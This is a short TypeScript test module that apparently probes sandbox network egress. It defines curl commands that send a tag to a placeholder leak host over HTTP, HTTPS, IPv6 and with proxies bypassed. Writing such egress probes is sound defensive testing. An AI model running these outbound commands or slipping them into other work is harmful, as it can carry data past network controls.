import { type LeakClient, shellClient } from "../leak-client.ts";

const curl = "command -v curl >/dev/null || exit 77; exec curl -sS --max-time 5";

/** curl in its usual forms. */
export const shellClients: readonly LeakClient[] = [
  shellClient("curl http", `${curl} "http://$LEAK_HOST/$LEAK_TAG"`),
  shellClient("curl https", `${curl} "https://$LEAK_HOST/$LEAK_TAG"`),
  shellClient("curl --noproxy", `${curl} --noproxy '*' "http://$LEAK_HOST/$LEAK_TAG"`),
  shellClient("curl, IPv6", `${curl} -g "http://[$LEAK_IPV6]/$LEAK_TAG"`),
];
